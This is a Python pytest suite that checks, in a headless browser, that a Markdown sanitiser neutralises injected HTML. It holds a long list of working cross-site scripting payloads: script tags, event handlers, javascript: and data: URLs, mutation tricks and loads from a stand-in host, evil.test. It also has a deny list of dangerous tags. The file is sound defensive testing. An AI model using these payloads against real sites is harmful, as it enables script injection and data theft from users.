"""Nothing that a body holds comes alive in a browser, even on a page without a Content-Security-Policy.

The attacks come from PyPI's brs-kb and npm's blns, from a list of classics, and from their fragments thrown together.
"""

import html
import json
import random
import subprocess
import tarfile
from collections.abc import Iterable

import pytest
from brs_kb.payloads import FULL_PAYLOAD_DATABASE
from playwright.sync_api import Browser, Route

from rostra import reading
from rostra.reading import sanitising
from tests.making import speech

PAGE = "http://archive.test/2021/speech/"

PLACES = {
    "paragraph": "We say ATTACK today.",
    "raw HTML block": "ATTACK",
    "link target": "[x](ATTACK) and [x](<ATTACK>)",
    "reference": "[x][y] and ![x][y]\n\n[y]: ATTACK 'ATTACK'",
    "image": '![ATTACK](ATTACK "ATTACK")',
    "attribute": "<img src=\"ATTACK\" alt='ATTACK'> <b title=ATTACK>x</b>",
    "attribute list": "We say {: ATTACK } so. [x](y){: ATTACK }\n\n## Heading {: ATTACK }",
    "table and footnote": "|a|b|\n|-|-|\n|ATTACK|`ATTACK`|\n\nSo[^1].\n\n[^1]: ATTACK",
}

CLASSICS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</section></body><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//>",
    "<img src='x' onerror='window.live=1' alt=x>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.live=1</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<base href='http://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<link rel=stylesheet href='//evil.test/x.css'>",
    "<style>@import '//evil.test/x.css';</style>",
    "<p style='background:url(//evil.test/x.png)'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<img src='//evil.test/x.png'>",
    "<img src='///evil.test/x.png'>",
    "<img src='/\\evil.test/x.png'>",
    "<img src='/&#9;/evil.test/x.png'>",
    "<img src='&#1;//evil.test/x.png'>",
    "<img src='http:evil.test/x.png'>",
    "<img src='x' srcset='//evil.test/x.png 2x'>",
    "<div background='//evil.test/x.png'><table background='//evil.test/x.png'><tr><td>x</table></div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<div><![nonsense[ <img src=x onerror=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)".replace("\x01", "&#1;"),
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.test/x.png",
    "///evil.test/x.png",
    "\\\\evil.test\\x.png",
    "http://evil.test/x.png",
    "onclick=alert(1) style=color:red",
    "#x .y onclick='alert(1)' href='javascript:alert(1)' src='//evil.test/x.png'",
    "\x02wzxhzdk:0\x03".replace("\x02", "&#2;").replace("\x03", "&#3;"),
)

# fmt: off
DANGEROUS = [
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form", "input", "button",
    "select", "textarea", "keygen", "link", "meta", "base", "style", "template", "video", "audio", "source", "track",
    "canvas", "dialog", "portal", "marquee", "noscript", "xmp", "plaintext", "title", "html", "head", "body",
]
# fmt: on

# What every document runs first: whoever calls one of these has come alive.
TRAP = """
for (const name of ["alert", "confirm", "prompt", "print", "open", "fetch"])
    window[name] = () => { window.live = name };
"""

# Everything in the page that could act, or that acted, with the number of its attack.
SURVEY = """
dangerous => {
    const found = [];
    const sections = document.querySelectorAll("body > section");
    if (window.live !== undefined) found.push(["a script ran", String(window.live)]);
    if (document.querySelectorAll("body > *").length !== sections.length) found.push(["something broke out", ""]);
    const schemes = ["http:", "https:", "mailto:", "tel:"];
    for (const section of sections) for (const element of section.querySelectorAll("*")) {
        const say = what => found.push([what, section.dataset.attack]);
        if (dangerous.includes(element.localName) || element.namespaceURI !== "http://www.w3.org/1999/xhtml")
            say("<" + element.localName + ">");
        for (const {name, value} of element.attributes) {
            if (name.startsWith("on") || ["style", "srcdoc", "srcset", "action", "background", "ping"].includes(name))
                say(name + "=");
            let scheme = "http:";
            if (["href", "src", "cite"].includes(name))
                try { scheme = new URL(value, document.baseURI).protocol } catch {}
            if (!schemes.includes(scheme)) say(name + "=" + scheme);
        }
    }
    return found;
}
"""


@pytest.fixture(scope="session")
def naughty_strings(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """npm's blns, the Big List of Naughty Strings; it is not ours to keep in this repository."""
    folder = tmp_path_factory.mktemp("blns")
    command = ["npm", "pack", "blns@2.0.4", "--silent", "--ignore-scripts", "--prefer-offline"]
    try:
        subprocess.run(command, cwd=folder, check=True, capture_output=True, timeout=120)
    except (OSError, subprocess.SubprocessError) as error:
        pytest.fail(f"{' '.join(command)}: {error}. This test needs npm, and its registry or npm's cache.")
    with tarfile.open(folder / "blns-2.0.4.tgz") as archive:
        member = archive.extractfile("package/resources/blns.json")
        assert member is not None
        found: list[str] = json.load(member)
    return found


def body(markdown: str) -> str:
    """The HTML of a speech with this text; empty where the file is refused, as for control characters."""
    data = speech(body=markdown).encode("utf-8", "surrogatepass")
    read = reading.read("a.md", "a.md", data)
    return read.body.html if read.body else ""


def alive(browser: Browser, bodies: Iterable[str]) -> list[tuple[str, str]]:
    """What comes alive, and of which of the `bodies`, on one page that holds them all."""
    sections = (f'<section data-attack="{number}">{text}</section>\n' for number, text in enumerate(bodies))
    document = f"<!doctype html>\n<html><head><title>Bodies</title></head><body>{''.join(sections)}</body></html>"
    found: list[tuple[str, str]] = []

    def answer(route: Route) -> None:
        url = route.request.url
        if url == PAGE:
            route.fulfill(body=document, content_type="text/html; charset=utf-8")
        elif url.startswith("http://archive.test/"):
            route.fulfill(body="", content_type="image/gif")
        else:
            found.append(("a request left", url))
            route.abort()

    context = browser.new_context(service_workers="block")
    context.add_init_script(TRAP)
    context.route("**/*", answer)
    page = context.new_page()
    page.on("pageerror", lambda error: found.append(("a script failed", str(error))))
    page.on("popup", lambda popup: found.append(("a window opened", popup.url)))
    page.goto(PAGE)
    found += [(what, which) for what, which in page.evaluate(SURVEY, DANGEROUS)]
    if page.url != PAGE:
        found.append(("the page went away", page.url))
    context.close()
    return found


def assert_none_lives(browser: Browser, attacks: list[str], place: str) -> None:
    """Fails with those of the `attacks`, written where `place` says, that come alive."""
    bodies = [body(place.replace("ATTACK", attack)) for attack in attacks]
    found = alive(browser, bodies)
    named = [(what, attacks[int(which)] if which.isdigit() else which) for what, which in found]
    assert named == []


@pytest.mark.parametrize("attack", ["<script>live=1</script>", "<img src=x onerror=live=1>", "<svg onload=alert(1)>"])
def test_the_trap_catches_what_is_not_sanitised(browser: Browser, attack: str) -> None:
    assert ("a script ran", "alert" if "alert" in attack else "1") in alive(browser, [attack])


@pytest.mark.parametrize(
    ("attack", "caught"),
    [
        ("<a href='java\nscript:alert(1)'>x</a>", ("href=javascript:", "0")),
        ("<p style='color:red'>x</p>", ("style=", "0")),
        ("<form></form>", ("<form>", "0")),
        ("</section><p>x</p>", ("something broke out", "")),
        ("<img src=///evil.test/x.png>", ("a request left", "http://evil.test/x.png")),
    ],
)
def test_the_survey_sees_what_waits_for_a_reader(browser: Browser, attack: str, caught: tuple[str, str]) -> None:
    assert caught in alive(browser, [attack])


def test_no_dangerous_element_is_allowed() -> None:
    assert sanitising.TAGS.isdisjoint(DANGEROUS)


@pytest.mark.parametrize("place", PLACES)
def test_no_classic_comes_alive(browser: Browser, place: str) -> None:
    assert_none_lives(browser, list(CLASSICS), PLACES[place])


@pytest.mark.parametrize("place", ["paragraph", "raw HTML block", "link target", "image", "attribute"])
def test_nothing_of_brs_kb_comes_alive(browser: Browser, place: str) -> None:
    attacks = sorted({entry.payload for entry in FULL_PAYLOAD_DATABASE.values()})
    assert len(attacks) > 4000
    assert_none_lives(browser, attacks, PLACES[place])


@pytest.mark.parametrize("place", PLACES)
def test_no_naughty_string_comes_alive(browser: Browser, naughty_strings: list[str], place: str) -> None:
    assert len(naughty_strings) > 400
    assert_none_lives(browser, naughty_strings, PLACES[place])


def test_no_mixture_of_fragments_comes_alive(browser: Browser) -> None:
    marks = [
        "\n",
        "\n\n",
        "    ",
        "`",
        "*",
        "_",
        "[",
        "](",
        ")",
        "![",
        "](<",
        ">)",
        "[^1]",
        "[^1]: ",
        "| ",
        "{: ",
        " }",
    ]
    marks += ["<", ">", "</", "/>", "<!--", "-->", "<![", "]]>", "<?", '"', "'", "=", "&", "&lt;", "&#60;", "\\", "> "]
    marks += [
        "<b",
        "<p ",
        "<div>",
        "</div>",
        "<pre>",
        "<table>",
        "<td>",
        "title=",
        "href=",
        "src=",
        " onerror=alert(1) ",
    ]
    chosen = random.Random(1863)
    mixtures = ["".join(chosen.choices([*marks, *CLASSICS], k=chosen.randint(2, 9))) for _ in range(3000)]
    assert_none_lives(browser, mixtures, "ATTACK")


def test_refused_file_says_nothing_but_its_problem() -> None:
    assert body("We say \x02 today.") == ""


def test_ordinary_html_stays(browser: Browser) -> None:
    text = body('Words <b>bold</b> and <a href="https://example.org/">a link</a> ![](x.png)')
    assert html.unescape(text).count("<b>bold</b>") == 1
    assert 'href="https://example.org/"' in text
    assert alive(browser, [text]) == []
